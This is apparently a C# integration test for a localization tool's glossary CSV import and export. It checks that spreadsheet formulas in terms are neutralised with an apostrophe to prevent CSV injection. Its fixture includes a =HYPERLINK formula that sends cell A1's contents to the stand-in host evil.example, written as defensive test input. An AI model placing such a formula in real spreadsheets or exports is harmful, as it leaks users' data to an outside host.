using Localize.Cli;

namespace Localize.Integration.Tests.Memory;

/// <summary>
/// A glossary kept in a spreadsheet: a term starting with = + - @ is imported as text, and the CSV export writes it so
/// a spreadsheet shows it instead of running it as a formula (CSV injection), while importing the export again gives
/// back exactly the same terms.
/// </summary>
public sealed class GlossaryCsvCliTests
{
    private const string Glossary = """"
        source,target,note
        =HYPERLINK("http://evil.example/?"&A1;"click"),=1+1,formula in every cell
        +44 helpline,+44 línea de ayuda,
        -ol,-ol,do-not-translate suffix
        @risk,@riesgo,"a note, with a comma and ""quotes"""
        migraine,migraña,
        aspirin,aspirina,forbidden: use ácido acetilsalicílico
        """";

    [Fact]
    public async Task Formula_like_terms_are_stored_as_text_neutralised_in_the_csv_export_and_import_back_unchanged()
    {
        using var repository = new TestRepository();
        var source = Path.Combine(repository.Root, "terms.csv");
        await File.WriteAllTextAsync(source, Glossary);
        var imported = await InProcessCli.RunAsync(repository, null, "glossary", "import", source, "--from", "en", "--to", "es");
        Assert.True(imported.ExitCode == LocalizeCommandLine.Ok, imported.Errors);
        var stored = await TermsAsync(repository, "es");
        Assert.Contains("=HYPERLINK(\"http://evil.example/?\"&A1;\"click\") | =1+1 | formula in every cell | Preferred", stored);
        Assert.Contains("-ol | -ol | do-not-translate suffix | Preferred", stored);

        var exported = Path.Combine(repository.Root, "export.csv");
        var export = await InProcessCli.RunAsync(repository, null, "glossary", "export", exported, "--from", "en", "--to", "es");
        Assert.True(export.ExitCode == LocalizeCommandLine.Ok, export.Errors);
        var lines = await File.ReadAllLinesAsync(exported);

        // Every cell a spreadsheet would evaluate starts with an apostrophe; nothing else is touched.
        Assert.Equal("source,target,note", lines[0]);
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")\",'=1+1,formula in every cell", lines);
        Assert.Contains("'+44 helpline,'+44 línea de ayuda,", lines);
        Assert.Contains("'@risk,'@riesgo,\"a note, with a comma and \"\"quotes\"\"\"", lines);
        Assert.Contains("migraine,migraña,", lines);
        Assert.All(lines.Skip(1).SelectMany(Cells), cell => Assert.False(cell.Length > 0 && "=+-@".Contains(cell[0]), $"'{cell}' would run as a formula"));

        // The export imports back into another pair as exactly the same terms.
        var again = await InProcessCli.RunAsync(repository, null, "glossary", "import", exported, "--from", "en", "--to", "fr");
        Assert.True(again.ExitCode == LocalizeCommandLine.Ok, again.Errors);
        Assert.Equal(stored, await TermsAsync(repository, "fr"));
    }

    /// <summary>The stored terms of en → <paramref name="target"/>, as text.</summary>
    private static async Task<string[]> TermsAsync(TestRepository repository, string target)
    {
        await using var connection = await repository.OpenDatabaseAsync();
        return [.. await Dapper.SqlMapper.QueryAsync<string>(
            connection,
            "SELECT source_term || ' | ' || target_term || ' | ' || note || ' | ' || kind FROM glossary_terms WHERE source_lang = 'en' AND target_lang = @target ORDER BY id",
            new { target })];
    }

    /// <summary>The cells of a CSV line as a spreadsheet sees their first character (quotes removed).</summary>
    private static IEnumerable<string> Cells(string line)
    {
        var cells = new List<string>();
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < line.Length && line[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"' && cell.Length == 0)
            {
                quoted = true;
            }
            else if (c == ',')
            {
                cells.Add(cell.ToString());
                cell.Clear();
            }
            else
            {
                cell.Append(c);
            }
        }

        cells.Add(cell.ToString());
        return cells;
    }
}
